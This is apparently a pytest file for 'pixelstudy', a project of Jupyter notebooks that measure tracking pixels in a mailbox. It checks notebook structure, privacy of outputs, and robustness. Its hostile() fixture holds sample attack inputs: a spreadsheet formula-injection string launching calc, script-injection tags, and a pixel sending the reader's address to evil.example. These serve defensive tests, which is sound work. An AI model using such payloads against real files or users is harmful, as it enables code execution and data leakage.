"""The notebooks: how they are written, what the committed ones show, and that they run on any mailbox."""

from __future__ import annotations

import ast
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from matplotlib.figure import Figure

import pixelstudy as ps
from pixelstudy.errors import UserError
from pixelstudy.figures import page
from pixelstudy.study.choice import choose_study
from pixelstudy.study.notebooks import notebook_paths, run_notebooks
from pixelstudy.study.study import Study, open_study

PROJECT = Path(__file__).resolve().parents[2]
PATHS = notebook_paths(PROJECT)
NAMES = [
    "00-read-your-mailbox",
    "01-see-a-spy-pixel",
    "02-measure-prevalence",
    "03-compare-senders",
    "04-name-the-vendors",
    "05-follow-the-years",
    "06-check-the-detector",
]
LIMIT_BYTES = 400_000

every_notebook = pytest.mark.parametrize("path", PATHS, ids=lambda path: path.stem)


def cells_of(path: Path, kind: str = "") -> list[dict[str, Any]]:
    cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
    return [cell for cell in cells if not kind or cell["cell_type"] == kind]


def source(cell: dict[str, Any]) -> str:
    return "".join(cell["source"])


def shown(path: Path) -> str:
    """All that a notebook's outputs show as text; pictures are left out."""
    texts = []
    for cell in cells_of(path, "code"):
        for output in cell["outputs"]:
            texts.append("".join(output.get("text", [])))
            data = output.get("data", {})
            texts += ["".join(data[kind]) for kind in data if not kind.startswith("image/")]
    return "\n".join(texts)


# How they are written


def test_there_are_seven_with_a_verb_each_in_their_order() -> None:
    assert [path.stem for path in PATHS] == NAMES


@every_notebook
def test_the_first_cell_says_what_for_and_what_one_learns(path: Path) -> None:
    first, *_ = cells_of(path)
    text = source(first)
    assert first["cell_type"] == "markdown"
    assert re.match(r"# \w+", text)
    assert re.search(r"\*\*.+\?\*\*", text), "a question in bold"
    assert "You will " in text
    assert len(text) > 200


@every_notebook
def test_one_cell_takes_the_parameter_and_the_next_names_input_and_output(path: Path) -> None:
    code = cells_of(path, "code")
    tagged = [cell for cell in code if "parameters" in cell["metadata"].get("tags", [])]
    assert tagged == code[:1]
    tree = ast.parse(source(tagged[0]))
    assert [ast.unparse(statement) for statement in tree.body] == ["STUDY = None"]
    assert re.search(r"^# Input: .+ Output: .+", source(code[1]))


@every_notebook
def test_the_last_cell_records_the_findings_under_its_own_name(path: Path) -> None:
    last = cells_of(path)[-1]
    assert last["cell_type"] == "code"
    calls = [node for node in ast.walk(ast.parse(source(last))) if isinstance(node, ast.Call)]
    recorded = [call for call in calls if ast.unparse(call.func) == "study.record"]
    assert len(recorded) == 1
    assert ast.literal_eval(recorded[0].args[0]) == path.stem
    everywhere = "\n".join(source(cell) for cell in cells_of(path, "code"))
    assert everywhere.count("study.record(") == 1


@every_notebook
def test_no_function_is_longer_than_a_few_lines_and_nothing_is_swallowed(path: Path) -> None:
    for cell in cells_of(path, "code"):
        for node in ast.walk(ast.parse(source(cell))):
            if isinstance(node, (ast.FunctionDef, ast.ClassDef)):
                assert (node.end_lineno or 0) - node.lineno < 6, node.name
            if isinstance(node, ast.ExceptHandler):
                assert node.type is not None
                assert ast.unparse(node.body[0]) != "pass"
        assert "sys.path" not in source(cell)
        assert not re.search(r"^[!%]", source(cell), flags=re.MULTILINE)


@every_notebook
def test_it_takes_from_the_package_its_public_names_alone(path: Path) -> None:
    tree = ast.parse("\n".join(source(cell) for cell in cells_of(path, "code")))
    used = {node.attr for node in ast.walk(tree) if isinstance(node, ast.Attribute) and ast.unparse(node.value) == "ps"}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            assert not [name.name for name in node.names if name.name.startswith("pixelstudy.")]
        elif isinstance(node, ast.ImportFrom) and (node.module or "").startswith("pixelstudy"):
            assert node.module == "pixelstudy"
            used |= {name.name for name in node.names}
    assert "open_study" in used
    assert used <= set(ps.__all__)


@every_notebook
def test_every_picture_in_the_source_has_an_alt_text(path: Path) -> None:
    for cell in cells_of(path, "code"):
        for node in ast.walk(ast.parse(source(cell))):
            if isinstance(node, ast.Call) and ast.unparse(node.func) in (
                "Image",
                "study.save_figure",
                "study.show_figure",
            ):
                assert "alt" in {keyword.arg for keyword in node.keywords}


# What the committed ones show


@every_notebook
def test_it_is_committed_executed_from_top_to_bottom_without_error(path: Path) -> None:
    code = cells_of(path, "code")
    assert [cell["execution_count"] for cell in code] == list(range(1, len(code) + 1))
    outputs = [output for cell in code for output in cell["outputs"]]
    assert outputs
    assert not [output for output in outputs if output["output_type"] == "error"]
    assert not [output for output in outputs if output.get("name") == "stderr"]


@every_notebook
def test_it_stays_small_enough_to_read_online(path: Path) -> None:
    assert path.stat().st_size < LIMIT_BYTES


def named(path: Path) -> list[str]:
    """The parameter cell of a private notebook, which names the mailbox that it is about."""
    cells = [source(cell) for cell in cells_of(path) if "parameters" in cell["metadata"].get("tags", [])]
    return cells if path not in PATHS else []


@every_notebook
def test_it_carries_nothing_of_the_machine_or_the_run(path: Path) -> None:
    notebook = json.loads(path.read_text(encoding="utf-8"))
    assert set(notebook["metadata"]) == {"kernelspec", "language_info"}
    for cell in notebook["cells"]:
        assert set(cell["metadata"]) <= {"tags", "jupyter"}
        assert cell["metadata"].get("jupyter", {"source_hidden": True}) == {"source_hidden": True}
    assert [cell["id"] for cell in notebook["cells"]] == [f"cell-{i:02d}" for i in range(len(notebook["cells"]))]
    text = shown(path) + "\n".join(source(cell) for cell in notebook["cells"] if source(cell) not in named(path))
    assert not re.search(r"(?:/(?:home|root|Users|tmp|work|var)/|[A-Z]:\\)\S", text)


ADDRESS = re.compile(r"[\w.+-]+@(?:[\w-]+\.)+[a-z]{2,}", re.IGNORECASE)
URL = re.compile(r"https?://([^\s/\"'<>|]+)([^\s\"'<>|]*)")
INVENTED = re.compile(r"(?:^|\.)(?:example|example\.(?:com|net|org))$")


@every_notebook
def test_it_shows_no_address_of_mail_but_invented_ones(path: Path) -> None:
    text = shown(path) + "\n".join(map(source, cells_of(path)))
    assert [found for found in ADDRESS.findall(text) if not INVENTED.search(found.split("@")[1])] == []


@every_notebook
def test_it_shows_no_tracking_url_but_invented_ones(path: Path) -> None:
    for host, rest in URL.findall(shown(path)):
        if not INVENTED.search(host):
            assert "?" not in rest
            assert not re.search(r"[\w-]{16,}", rest), f"{host}{rest}"


@every_notebook
def test_every_picture_has_the_alt_text_that_lies_beside_the_figure(path: Path) -> None:
    alts = {file.read_text(encoding="utf-8").strip() for file in (PROJECT / "data/results/figures").glob("*.txt")}
    for cell in cells_of(path, "code"):
        for output in cell["outputs"]:
            if "image/png" in output.get("data", {}):
                assert output["metadata"]["image/png"]["alt"] in alts


def test_findings_and_figures_of_every_notebook_are_committed() -> None:
    findings = json.loads((PROJECT / "data/results/findings.json").read_text(encoding="utf-8"))
    assert list(findings) == NAMES
    saved = {
        name
        for path in PATHS
        for name in re.findall(r"study\.(?:save|show)_figure\(\"([\w-]+)\"", path.read_text().replace('\\"', '"'))
    }
    figures = {path.name for path in (PROJECT / "data/results/figures").iterdir()}
    assert figures == {f"{name}.{suffix}" for name in saved for suffix in ("png", "svg", "txt")}
    tables = {path.stem for path in (PROJECT / "data/results/tables").iterdir()}
    assert {f"figure-{name}" for name in saved} <= tables


# That they run


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project folder of its own: the notebooks, the released tables and what goes with them."""
    folder = tmp_path / "home"
    shutil.copytree(PROJECT / "notebooks", folder / "notebooks", ignore=shutil.ignore_patterns(".*"))
    (folder / "data").mkdir()
    for name in ("corpora", "labels"):
        (folder / "data" / name).symlink_to(PROJECT / "data" / name)
    for name in ("published.csv", "lists_by_year.csv"):
        shutil.copy(PROJECT / "data" / name, folder / "data")
    monkeypatch.setenv("PIXELSTUDY_HOME", str(folder))
    monkeypatch.setenv("PIXELSTUDY_HEADLESS", "1")  # recorded requests: no browser is here to load the live pixel
    return folder


def message(
    number: int,
    *,
    sender: str = "Shop <news@shop.example>",
    subject: str = "Offers",
    headers: str = "",
    body: str = "Hello",
    year: int = 2024,
) -> str:
    kind = "html" if body.startswith("<") else "plain"
    return (
        f"From MAILER-DAEMON Fri Mar  1 12:00:00 {year}\nFrom: {sender}\nTo: Jane Doe <jane.doe@private-mail.example>\n"
        f"Subject: {subject}\nMessage-ID: <{number}@shop.example>\n"
        f"Date: Fri, 01 Mar {year} 12:{number % 60:02}:00 +0000\nMIME-Version: 1.0\n"
        f"Content-Type: text/{kind}; charset=utf-8\n{headers}\n{body}\n{number}\n\n"
    )


BULK = "List-Unsubscribe: <https://shop.example/u>\nPrecedence: bulk\n"
PIXEL = '<img src="https://open.mailer.example/o.gif?r={:032x}5a36dedd4bea2543" width="1" height="1">'
FORMULA = "=cmd|' /C calc'!A0 <script>alert(1)</script> $x^2$"


def newsletters() -> list[str]:
    """Eight senders over three years, two thirds of their mails with a pixel."""
    return [
        message(
            10 * i + j,
            sender=f"Shop {i} <news@shop{i}.example>",
            headers=BULK,
            body=f'<p>Offer</p><img src="https://shop{i}.example/a.png" width="200" height="60">'
            + (PIXEL.format(10 * i + j) if (i + j) % 3 else ""),
            year=2022 + j % 3,
        )
        for i in range(8)
        for j in range(6)
    ]


def letters() -> list[str]:
    """Personal mail without HTML."""
    return [message(200 + i, sender=f"Friend <friend@people{i % 9}.example>", subject="Hi") for i in range(36)]


def hostile() -> list[str]:
    """Spam whose sender and subject are meant to do harm."""
    spy = '<img src="https://evil.example/p.gif?e=jane.doe@private-mail.example" width=1 height=1>'
    label = "X-Gmail-Labels: Spam\n"
    senders = (f'"{FORMULA}" <=cmd@evil.example>', "<b>x</b> <x@<script>alert(1)</script>.example>", "", "@@@")
    return [
        message(300 + i, sender=sender, subject=FORMULA, headers=label if i % 2 else "", body=f"<p>{i}</p>{spy}")
        for i, sender in enumerate(senders)
    ]


def written(folder: Path, name: str, *groups: list[str]) -> Path:
    path = folder / f"{name}.mbox"
    path.write_text("".join(text for group in groups for text in group), encoding="utf-8")
    return path


def run_here(path: Path) -> None:
    """Run the cells of a notebook that its study shows in this process, and ask the last value of each for its HTML."""
    is_private = os.environ["PIXELSTUDY_STUDY"] != "released"
    cells = [
        cell for cell in cells_of(path, "code") if not (is_private and "public" in cell["metadata"].get("tags", []))
    ]
    space: dict[str, Any] = {"__name__": "__main__", "display": lambda *_: None}
    for number, cell in enumerate(cells, start=1):
        tree = ast.parse(source(cell))
        last = tree.body.pop() if tree.body and isinstance(tree.body[-1], ast.Expr) else None
        exec(compile(tree, f"{path.stem}, cell {number}", "exec"), space)
        if isinstance(last, ast.Expr):
            value = eval(compile(ast.Expression(last.value), f"{path.stem}, cell {number}", "eval"), space)
            getattr(value, "_repr_html_", lambda: None)()


@pytest.fixture
def quick_figures(monkeypatch: pytest.MonkeyPatch) -> None:
    """Draw figures, which can fail, but small."""

    def write(drawn: Figure, path: Path | BytesIO, *, alt: str) -> None:
        assert alt
        assert "nan" not in alt.split()
        if isinstance(path, BytesIO) or path.suffix == ".png":
            drawn.savefig(path, dpi=20)

    monkeypatch.setattr(page, "write_figure", write)


def findings_of(study: Study) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((study.results / "findings.json").read_text(encoding="utf-8"))
    return found


@pytest.mark.notebooks
@pytest.mark.parametrize(
    "mail",
    [
        lambda: letters()[:5],
        lambda: newsletters()[1:2],
        lambda: [message(1, headers="X-Gmail-Labels: Spam\n", body="<p>Hi</p>")],
        lambda: hostile(),
    ],
    ids=["plain text alone", "one message", "spam alone", "hostile mail alone"],
)
def test_they_run_on_the_oddest_mailboxes(
    mail: Callable[[], list[str]],
    home: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    quick_figures: None,
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = written(tmp_path, "odd", mail())
    monkeypatch.setenv("PIXELSTUDY_STUDY", str(path))
    for notebook in notebook_paths(home):
        run_here(notebook)
    assert "nan" not in re.findall(r"[a-z]+", capsys.readouterr().out)
    assert sorted(findings_of(open_study(path, progress=False))) == NAMES


@pytest.mark.notebooks
def test_they_give_the_committed_findings_on_the_released_tables(
    home: Path, monkeypatch: pytest.MonkeyPatch, quick_figures: None
) -> None:
    monkeypatch.setenv("PIXELSTUDY_STUDY", "released")
    for notebook in notebook_paths(home):
        run_here(notebook)
    assert findings_of(open_study("released")) == json.loads(
        (PROJECT / "data/results/findings.json").read_text(encoding="utf-8")
    )


@pytest.mark.notebooks
def test_they_run_on_a_mailbox_of_ones_own_and_only_once(home: Path, tmp_path: Path) -> None:
    path = written(tmp_path, "mine", newsletters(), letters(), hostile())
    before = {file: file.read_bytes() for file in home.rglob("*") if file.is_file()}
    said: list[str] = []
    study = open_study(path, progress=False)
    executed = run_notebooks(study, report=said.append)
    assert said == [f"{name}.ipynb: executing" for name in NAMES]
    assert [file.stem for file in executed] == NAMES

    found = findings_of(study)
    assert list(found) == NAMES
    headline = found["02-measure-prevalence"]["headline"]
    assert (headline["n_messages"], headline["n_with"]) == (48 + 2, 32 + 2)
    assert found["00-read-your-mailbox"]["n_messages"] == 48 + 36 + 4

    private = home / "data" / "private"
    after = {file for file in home.rglob("*") if file.is_file() and not file.is_relative_to(private)}
    assert after == set(before)
    assert all(file.read_bytes() == text for file, text in before.items())
    for file in executed:
        test_it_is_committed_executed_from_top_to_bottom_without_error(file)
        test_it_carries_nothing_of_the_machine_or_the_run(file)
        test_it_shows_no_address_of_mail_but_invented_ones(file)
        assert named(file) == [f"STUDY = {str(path)!r}"]
        text = file.read_text(encoding="utf-8")
        assert "jane.doe" not in text, "the reader's own address"
        assert "alert(1)" not in text
        assert "5a36dedd4bea2543\\" not in shown(file) or file.stem == NAMES[1]
    for file in study.results.rglob("*.csv"):
        assert not re.search(r"^[=+@]|,[=+@]", file.read_text(encoding="utf-8"), flags=re.MULTILINE), file.name

    said.clear()
    run_notebooks(study, report=said.append)
    assert said == [f"{name}.ipynb: nothing changed" for name in NAMES]


def try_notebook(home: Path, *cells: dict[str, Any]) -> Path:
    """The only notebook of the project: code cells of these parts."""
    for path in notebook_paths(home):
        path.unlink()
    path = home / "notebooks" / "00-try.ipynb"
    blank = {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": []}
    whole = [blank | {"id": f"c{i}"} | cell for i, cell in enumerate(cells)]
    path.write_text(json.dumps({"cells": whole, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    return path


@pytest.mark.notebooks
def test_a_private_study_leaves_out_what_is_about_the_public_mail(home: Path, tmp_path: Path) -> None:
    path = try_notebook(
        home,
        {"source": "print('of any mail')"},
        {"source": "print('of the public mail')", "metadata": {"tags": ["public"]}},
    )
    mailbox = written(tmp_path, "mine", newsletters())
    (private,) = run_notebooks(open_study(mailbox, progress=False), report=lambda _: None)
    assert shown(private) == "of any mail\n"
    assert list(map(source, cells_of(private))) == ["print('of any mail')"]
    (public,) = run_notebooks(open_study("released"), report=lambda _: None)
    assert public == path
    assert shown(public) == "of any mail\n\nof the public mail\n"


@pytest.mark.notebooks
def test_what_the_reader_changed_is_kept_when_a_notebook_is_executed_again(home: Path, tmp_path: Path) -> None:
    try_notebook(home, {"source": "print('first')"})
    mailbox = written(tmp_path, "mine", newsletters())
    study = open_study(mailbox, progress=False)
    study.record("00-try")
    (executed,) = run_notebooks(study, report=lambda _: None)
    executed.write_text(executed.read_text().replace("'first'", "'mine'"))
    run_notebooks(open_study(mailbox, progress=False), report=lambda _: None)
    assert "'mine'" in executed.read_text(), "nothing changed in the study"
    try_notebook(home, {"source": "print('second')"})
    run_notebooks(open_study(mailbox, progress=False), report=lambda _: None)
    assert shown(executed) == "second\n"
    assert "'mine'" in (executed.parent / "older" / "00-try-1.ipynb").read_text()
    try_notebook(home, {"source": "print('third')"})
    run_notebooks(open_study(mailbox, progress=False), report=lambda _: None)
    assert [path.name for path in (executed.parent / "older").iterdir()] == ["00-try-1.ipynb"]


@pytest.mark.notebooks
def test_an_executed_notebook_run_again_by_hand_is_about_the_same_mail(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cells = {"source": "STUDY = None", "metadata": {"tags": ["parameters"]}}, {"source": RUN_AGAIN}
    try_notebook(home, *cells)
    mailbox = written(tmp_path, "mine", newsletters(), [message(1, headers="X-Gmail-Labels: Spam\n")])
    (executed,) = run_notebooks(open_study(mailbox, populations=["spam"], progress=False), report=lambda _: None)
    assert shown(executed) == "mine.mbox ('spam',)\n"
    choose_study(written(tmp_path, "another", letters()))
    monkeypatch.chdir(executed.parent)
    for gone, said in ((False, "mine.mbox ('spam',)"), (True, "was read before and is gone")):
        if gone:
            mailbox.unlink()
        command = [sys.executable, "-m", "nbconvert", "--to", "notebook", "--execute", "--allow-errors", "--inplace"]
        subprocess.run([*command, executed.name], check=True, capture_output=True)
        (output,) = cells_of(executed, "code")[1]["outputs"]
        lines = output.get("traceback", [output.get("text")])
        assert len(lines) == 1
        assert said in "".join(lines[0])


RUN_AGAIN = """import pixelstudy as ps
study = ps.open_study(STUDY, progress=False)
print(study.name, study.populations)"""


@pytest.mark.notebooks
def test_what_is_folded_away_stays_so_and_no_other_mark_does(home: Path) -> None:
    marks = {"jupyter": {"source_hidden": True, "outputs_hidden": True}, "collapsed": True}
    path = try_notebook(home, {"source": "1", "metadata": marks}, {"source": "2", "metadata": {"jupyter": {}}})
    run_notebooks(open_study("released"), report=lambda _: None)
    assert [cell["metadata"] for cell in cells_of(path)] == [{"jupyter": {"source_hidden": True}}, {}]


@pytest.mark.notebooks
def test_a_cell_that_fails_is_named_in_one_line_and_the_notebook_kept_as_it_was(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = try_notebook(home, {"source": "a = 1"}, {"source": "raise ValueError('what\\nis this')"})
    before = path.read_bytes()
    with pytest.raises(UserError, match=r"^00-try\.ipynb stopped in cell 2: ValueError: what is this; open "):
        run_notebooks(open_study("released"), report=lambda _: None)
    assert path.read_bytes() == before
    assert [file.name for file in (home / "notebooks").iterdir()] == ["00-try.ipynb"]
    assert (home / "data" / "private" / "executing" / "00-try.ipynb").exists()
